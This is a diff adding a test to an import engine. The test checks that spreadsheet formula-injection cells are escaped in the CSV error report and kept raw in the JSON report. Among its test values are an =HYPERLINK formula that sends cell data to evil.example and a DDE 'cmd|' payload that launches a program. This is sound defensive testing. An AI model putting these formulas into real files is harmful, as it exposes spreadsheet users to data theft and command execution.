@@ -181,3 +181,21 @@ def test_duplicates_the_text_fields_cannot_tell_apart_keep_the_first_occurrence(
     assert products["D-1"]["description"] == "first"
     assert products["D-2"]["name"] == "Two"
     assert result.counts.created == 2 and result.counts.rejected == 3
+
+
+def test_a_hostile_files_formulas_are_inert_in_the_csv_report_and_raw_in_json(engine):
+    """A cell a spreadsheet would evaluate (=HYPERLINK, =cmd|..., @SUM, +, -) comes back in
+    errors.csv behind an apostrophe; errors.json keeps the value as it was."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
+               "-2+3", "=1+2"]  # fmt: skip
+    quoted = ['"' + value.replace('"', '""') + '"' for value in hostile]
+    rows = "".join(f"H-{i},N,s,live,physical,{q},EUR,\n" for i, q in enumerate(quoted))
+    rows += "N-1,N,s,live,physical,-7,EUR,\n"  # a plain negative number stays as it is
+    result = engine.run(engine.write("p.csv", HEADER + GOOD + rows), **LENIENT)
+    prefix = f"default/main/imports/{result.importId}"
+    report = list(csv.DictReader(engine.store.get(f"{prefix}/errors.csv").decode().splitlines()))
+    raw = json.loads(engine.store.get(f"{prefix}/errors.json"))
+    assert [e["value"] for e in raw] == [*hostile, "-7"]
+    assert [r["value"] for r in report] == [*("'" + v for v in hostile), "-7"]
+    # The message quotes the value too: it starts with the field's name, never a formula.
+    assert all(r["message"].startswith("price") for r in report)
